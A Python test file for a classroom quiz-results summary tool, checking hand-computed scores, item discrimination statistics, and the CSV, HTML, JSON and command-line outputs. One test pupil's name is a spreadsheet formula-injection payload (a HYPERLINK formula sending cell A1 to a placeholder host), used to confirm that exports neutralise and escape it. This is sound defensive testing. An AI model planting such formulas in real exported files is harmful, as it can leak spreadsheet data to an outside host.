"""The class summary: figures checked by hand on a class of five, and its three files.

The class plays mini_quiz (ten questions of 10 points, all or nothing with the wrong
answers chosen here). Each pupil takes 10 s per question for Léa, 20 s for Tom… 50 s
for Inès (answer ``seconds`` after the question shows, « next » one second later).

    question   1 2 3 4 5 6 7 8 9 10   score
    Léa        1 1 1 1 1 1 1 1 1 1    100
    Tom        1 1 1 1 1 1 1 1 0 0     80
    =HYPER…    1 0 1 1 1 1 0 1 0 0     60
    Zoé        0 1 0 1 1 0 1 0 0 0     40
    Inès       0 0 0 1 0 0 0 0 0 0     10

Tom also played a second time, the next day, and got everything right: with the
default rule his first attempt counts.
"""

from __future__ import annotations

import csv
import json
import math
import re
from pathlib import Path

import pytest

from engine.cli import main
from engine.results.csvout import safe
from engine.results.report import summarise
from engine.results.resultfile import find_result_files, read_results, result_from_session, write_result
from engine.results.summary import build

from .results_helpers import play_escape, quiz_result

INJECTION = '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")'
CLASS = [("Léa", "1111111111", 10), ("Tom", "1111111100", 20), (INJECTION, "1011110100", 30),
         ("Zoé", "0101101000", 40), ("Inès", "0001000000", 50)]
# Everyone's wrong answer to q10 is zone z2 but Zoé's, who clicks outside every zone.
WRONG = {"Zoé": {"q10": {"x": 90, "y": 90}}}


@pytest.fixture(scope="module")
def results_folder(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("resultats")
    for k, (name, pattern, seconds) in enumerate(CLASS):
        write_result(quiz_result(pattern, name, started_at=f"2026-03-12T10:1{k}:00+01:00", seconds=seconds,
                                 wrong=WRONG.get(name)), folder)
    write_result(quiz_result("1111111111", "Tom", started_at="2026-03-13T09:00:00+01:00"), folder)
    return folder


@pytest.fixture(scope="module")
def summary(results_folder):
    reading = read_results(find_result_files([results_folder]))
    assert not reading.problems
    return summarise(reading.results)


def test_pupils_by_hand(summary):
    rows = {p.name: p for p in summary.pupils}
    assert [p.name for p in summary.pupils] == [INJECTION, "Inès", "Léa", "Tom", "Zoé"]  # by name, not rank
    assert [rows[n].score_pct for n, _p, _s in CLASS] == [100, 80, 60, 40, 10]
    assert [rows[n].score for n, _p, _s in CLASS] == [100, 80, 60, 40, 10]
    assert all(p.completion_pct == 100 and p.answered == p.total == 10 and p.max_score == 100 for p in rows.values())
    # Ten questions of (seconds + 1) s each.
    assert [rows[n].duration_s for n, _p, _s in CLASS] == [110, 210, 310, 410, 510]
    assert rows["Tom"].attempts == 2 and rows["Tom"].started_at.startswith("2026-03-12")  # the first
    assert rows["Léa"].attempts == 1
    # Skill « sources » is q1's alone.
    assert [dict(rows[n].skills)["sources"] for n, _p, _s in CLASS] == [100, 100, 100, 0, 0]
    assert (rows["Léa"].success, rows["Inès"].success) == (True, True)  # both endings are successes


def test_overview_by_hand(summary):
    o = summary.overview
    assert (o.results, o.pupils, o.finished, o.hints) == (6, 5, 5, 0)
    assert o.mean_score_pct == pytest.approx(58.0)  # (100 + 80 + 60 + 40 + 10) / 5
    assert o.median_score_pct == 60.0
    assert o.mean_duration_s == pytest.approx(310.0)  # (110 + … + 510) / 5
    assert o.histogram == (0, 1, 0, 0, 1, 0, 1, 0, 1, 1)  # 10, 40, 60, 80, 100 (100 in the last)
    assert (o.first_start, o.last_start) == ("2026-03-12T10:10:00+01:00", "2026-03-13T09:00:00+01:00")


def test_questions_by_hand(summary):
    q = {row.id: row for row in summary.questions}
    assert [row.id for row in summary.questions] == [f"q{k}" for k in range(1, 11)]
    assert [q[f"q{k}"].success_pct for k in range(1, 11)] == [60, 60, 60, 100, 80, 60, 60, 60, 20, 20]
    assert [q[f"q{k}"].solved for k in range(1, 11)] == [3, 3, 3, 5, 4, 3, 3, 3, 1, 1]
    assert all(row.answered == row.presented == 5 and row.max_points == 10 for row in summary.questions)
    assert all(row.mean_time_s == pytest.approx(30.0) for row in summary.questions)  # (10+…+50) / 5
    assert all(row.hint_pct == 0.0 for row in summary.questions)
    assert [row.id for row in summary.questions if row.hard] == ["q9", "q10"]  # under 40 %
    # The most chosen wrong answer, in the words the pupils saw, and by how many.
    assert (q["q1"].wrong_answer, q["q1"].wrong_answer_count) == ("B", 2)  # Zoé, Inès
    assert (q["q3"].wrong_answer, q["q3"].wrong_answer_count) == ("Vrai", 2)  # the label, not "true"
    assert (q["q9"].wrong_answer, q["q9"].wrong_answer_count) == ("X : I2 ; Y : I1", 4)  # each category and its items
    assert (q["q10"].wrong_answer, q["q10"].wrong_answer_count) == ("z2", 3)  # all but Zoé
    assert (q["q4"].wrong_answer, q["q4"].wrong_answer_count) == (None, 0)


def test_discrimination_by_hand(summary):
    """Point-biserial: success (0/1) against the percentage on the other nine questions.

    q1: x = (1, 1, 1, 0, 0); rest = (90, 70, 50, 40, 10) / 90 for Léa, Tom, =HYPER…, Zoé, Inès.
        mean x = 0.6, mean y = 52; dx = (.4, .4, .4, -.6, -.6); dy = (38, 18, -2, -12, -42)
        Sxy = .4 × 54 + .6 × 54 = 54; Sxx = 1.2; Syy = 1444 + 324 + 4 + 144 + 1764 = 3680
        r = 54 / √(1.2 × 3680) = 54 / √4416 = 0.81260
    q2: x = (1, 1, 0, 1, 0); rest = (90, 70, 60, 30, 10); mean y = 52; dy = (38, 18, 8, -22, -42)
        Sxy = .4 × (38 + 18 - 22) + .6 × (42 - 8) = 34; Sxx = 1.2; Syy = 4080
        r = 34 / √4896 = 0.48592
    q9: x = (1, 0, 0, 0, 0); rest = (90, 80, 60, 40, 10); mean y = 56; dy = (34, 24, 4, -16, -46)
        Sxy = .8 × 34 + .2 × 34 = 34; Sxx = 0.8; Syy = 4120
        r = 34 / √3296 = 0.59222
    q4: everybody succeeded: undefined.
    """
    q = {row.id: row for row in summary.questions}
    assert q["q1"].discrimination == pytest.approx(54 / math.sqrt(4416))
    assert q["q1"].discrimination == pytest.approx(0.81260, abs=1e-5)
    assert q["q2"].discrimination == pytest.approx(0.48592, abs=1e-5)
    assert q["q9"].discrimination == pytest.approx(0.59222, abs=1e-5)
    assert q["q4"].discrimination is None
    assert summary.discrimination_method == "point-biserial"


def test_skills_by_hand(summary):
    [skill] = summary.skills
    assert (skill.id, skill.label, skill.questions, skill.answers) == ("sources", "Vérifier une source", 1, 5)
    assert skill.success_pct == 60 and skill.points_pct == 60
    assert summary.themes == ()


def test_other_attempt_rules(results_folder):
    reading = read_results(find_result_files([results_folder]))
    for rule in ("last", "best"):
        tom = next(p for p in summarise(reading.results, rule).pupils if p.name == "Tom")
        assert tom.score_pct == 100 and tom.started_at.startswith("2026-03-13")


def test_hints_and_unanswered_questions():
    """An escape game: a question a pupil never reached does not count as failed."""
    helped = result_from_session(play_escape(hints=2), "Léa", started_at="2026-03-12T10:00:00")
    alone = result_from_session(play_escape(), "Tom", started_at="2026-03-12T10:00:00")
    stuck = result_from_session(play_escape(), "Zoé", started_at="2026-03-12T10:00:00")
    stuck["puzzles"][1].update(status="open", correct=False, fraction=0.0, points=0, time_s=None,
                               answer=None)
    stuck["score"], stuck["ended"], stuck["ending"], stuck["success"] = 10, False, None, None
    stuck["end"] = "unfinished"
    from engine.results.validate import parse_result

    s = summarise([parse_result(r) for r in (helped, alone, stuck)])
    safe_q, post_q = s.questions
    assert (safe_q.hint_pct, safe_q.answered, safe_q.success_pct) == (pytest.approx(100 / 3), 3, 100)
    assert (post_q.presented, post_q.answered, post_q.success_pct) == (3, 2, 100)
    zoe = next(p for p in s.pupils if p.name == "Zoé")
    assert (zoe.completion_pct, zoe.score_pct, zoe.ended) == (50, 50, False)
    assert s.overview.hints == 2


# --- the CSV, read back as a French Excel would -------------------------------------------

@pytest.fixture(scope="module")
def built(results_folder, tmp_path_factory):
    out = tmp_path_factory.mktemp("synthese")
    return build([results_folder], out), out


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream, delimiter=";"))


def _section(rows: list[list[str]], title: str) -> list[list[str]]:
    start = rows.index([title]) + 1
    end = next((k for k in range(start, len(rows)) if rows[k] == []), len(rows))
    return rows[start:end]


def test_csv_opens_in_a_french_spreadsheet(built):
    _built, out = built
    raw = (out / "synthese.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents
    assert "\u202f".encode() not in raw and "\u00a0".encode() not in raw  # no Babel group space
    rows = _read_csv(out / "synthese.csv")
    assert rows[0][:2] == ["Synthèse de classe", "Mini quiz (jeu de test)"]
    assert rows[1][:6] == ["Résultats lus", "6", "Élèves ou équipes", "5", "Parties du", "12/03/2026 10:10"]
    assert rows[2][:4] == ["Score moyen (%)", "58", "Score médian (%)", "60"]
    assert rows[2][6:8] == ["Durée moyenne (min)", "5,2"]  # 310 s, decimal comma
    pupils = _section(rows, "Élèves et équipes")
    head, body = pupils[0], {row[0]: dict(zip(pupils[0], row)) for row in pupils[1:]}
    assert head[:5] == ["Élève ou équipe", "Groupe", "Même pseudonyme", "Membres", "Début"]
    assert body["Léa"]["Début"] == "12/03/2026 10:10" and body["Léa"]["Score (%)"] == "100"
    assert body["Tom"]["Tentatives"] == "2" and body["Tom"]["Durée (min)"] == "3,5"
    assert body["Inès"]["Score"] == "10" and body["Inès"]["Fin de partie"] == "gagnée"
    questions = _section(rows, "Questions")
    q = {row[1]: dict(zip(questions[0], row)) for row in questions[1:]}
    assert q["q1"]["Discrimination (point-bisériale)"] == "0,81"
    assert q["q2"]["Discrimination (point-bisériale)"] == "0,49"
    assert q["q4"]["Discrimination (point-bisériale)"] == ""  # undefined: empty, never 0
    assert q["q9"]["Réussite (%)"] == "20" and q["q9"]["Alerte"] == "peu réussie"
    assert q["q1"]["Réponse fausse la plus choisie"] == "B" and q["q1"]["Élèves l’ayant choisie"] == "2"
    assert q["q1"]["Temps moyen (s)"] == "30"
    assert _section(rows, "Compétences")[1] == ["Vérifier une source", "1", "5", "60", "60", "60"]


def test_csv_neutralises_formulas(built):
    _built, out = built
    rows = _read_csv(out / "synthese.csv")
    names = [row[0] for row in _section(rows, "Élèves et équipes")[1:]]
    assert "'" + INJECTION in names  # reaches the teacher as text, whole
    for row in rows:
        for cell in row:
            # Only numbers we wrote may start with a minus sign.
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(,\d+)?", cell), cell


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+33 6", "'+33 6"), ("-2", "'-2"),
                                        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("Léa", "Léa"),
                                        ("a=b", "a=b"), ("", "")])
def test_formula_cells(text, cell):
    assert safe(text) == cell


# --- the HTML page -----------------------------------------------------------------------

def test_html_shows_the_figures(built):
    _built, out = built
    page = (out / "synthese.html").read_text(encoding="utf-8")
    nnbsp = "\u202f"
    assert page.startswith("<!DOCTYPE html>") and '<html lang="fr">' in page
    assert "Synthèse de classe : Mini quiz (jeu de test)" in page
    assert f"<b>58{nnbsp}%</b>score moyen" in page and "<b>5 min 10 s</b>durée moyenne" in page
    assert "Fins de partie — gagnée\u00a0:\u00a05." in page
    assert "Questions à retravailler" in page
    assert f"<b>9. Trie.</b> (20{nnbsp}% de réussite" in page and f"<b>10. Clique.</b> (20{nnbsp}%" in page
    assert "0,81" in page and "0,49" in page and "point-bisériale" in page
    assert f"3/5<br>60{nnbsp}%" in page  # q1: solved / answered
    assert "B <span" in page and "Vérifier une source" in page
    assert page.count("<svg") == 3  # scores, questions, skills
    # The pseudonym is text, escaped; nothing is fetched from the network, nothing runs.
    assert "=HYPERLINK(&quot;http://exemple.invalid/?&quot;&amp;A1;&quot;Cliquez&quot;)" in page
    assert INJECTION not in page
    assert not re.search(r"\b(src|href)\s*=|@import|<script|<link|url\(\s*['\"]?http", page)
    # Printing: A4, parts on new pages, headers repeated, rows never cut.
    assert "@page { size: A4" in page and "@media print" in page
    assert "thead { display: table-header-group; }" in page and "break-inside: avoid" in page


def test_json_for_other_tools(built):
    _built, out = built
    data = json.loads((out / "synthese.json").read_text(encoding="utf-8"))
    assert (data["format"], data["version"], data["game_id"]) == ("sesame-synthese", 1, "mini_quiz")
    assert data["overview"]["mean_score_pct"] == 58.0
    q = {row["id"]: row for row in data["questions"]}
    assert q["q4"]["discrimination"] is None and q["q9"]["hard"] is True
    assert round(q["q1"]["discrimination"], 5) == 0.8126
    assert {p["name"]: p["skills"]["sources"] for p in data["pupils"]}["Zoé"] == 0.0


# --- the command line ----------------------------------------------------------------------

def test_report_command(results_folder, tmp_path, capsys):
    broken = tmp_path / "casse.json"
    broken.write_text("{", encoding="utf-8")
    out = tmp_path / "out"
    assert main(["report", str(results_folder), str(broken), "--out", str(out)]) == 0
    captured = capsys.readouterr()
    assert sorted(p.name for p in out.iterdir()) == ["synthese.csv", "synthese.html", "synthese.json",
                                                           "synthese.xlsx"]
    assert "Mini quiz (jeu de test) : 5 élèves ou équipes (7 fichiers lus, 1 ignoré)" in captured.out
    assert "2 questions peu réussies (moins de 40 %) : n° 9, 10" in captured.out
    assert f"{broken}: fichier tronqué : il s’arrête avant la fin (copie interrompue ?) ; fichier ignoré" in captured.err


def test_report_exit_codes(tmp_path, capsys):
    (tmp_path / "vide").mkdir()
    (tmp_path / "x.json").write_text("[]", encoding="utf-8")
    assert main(["report", str(tmp_path / "vide"), "--out", str(tmp_path / "o")]) == 1
    assert main(["report", str(tmp_path / "x.json"), "--out", str(tmp_path / "o")]) == 1
    assert "aucun résultat utilisable parmi 1 fichier(s)" in capsys.readouterr().err
    assert main(["report", str(tmp_path / "absent"), "--out", str(tmp_path / "o")]) == 2
    assert main(["report", str(tmp_path / "vide"), "--out", str(tmp_path / "x.json")]) == 2
    with pytest.raises(SystemExit) as missing_out:
        main(["report", str(tmp_path / "vide")])
    assert missing_out.value.code == 2


def test_report_in_english(results_folder, tmp_path, capsys):
    assert main(["--lang", "en", "report", str(results_folder), "--out", str(tmp_path)]) == 0
    assert "Summary written to" in capsys.readouterr().out
    rows = _read_csv(tmp_path / "synthese.csv")
    assert rows[0][0] == "Class summary" and rows[2][1] == "58"  # French Excel numbers still


def test_a_question_bank_where_each_pupil_draws_different_questions(tmp_path):
    """Forty questions, twenty drawn per pupil: every figure is over the pupils who got
    the question (the generated results of ``sesame bench``)."""
    from engine.bench import write_bank
    from engine.results.sample import write_results

    bank = write_bank(tmp_path / "bank", 40)
    write_results(tmp_path / "results", 30, bank, templates=30)
    built = build([tmp_path / "results"], tmp_path / "out")
    s = built.summary
    assert s is not None and s.overview.pupils == 30 and not built.reading.problems
    assert 20 < len(s.questions) <= 40
    assert sum(q.presented for q in s.questions) == 30 * 20
    assert all(q.presented == q.answered for q in s.questions)
    assert all(q.discrimination is None or -1 <= q.discrimination <= 1 for q in s.questions)
    assert [p.name for p in s.pupils][:3] == ["Élève 1", "Élève 2", "Élève 3"]  # natural order
    assert {p.group for p in s.pupils} == {"Classe 1"}
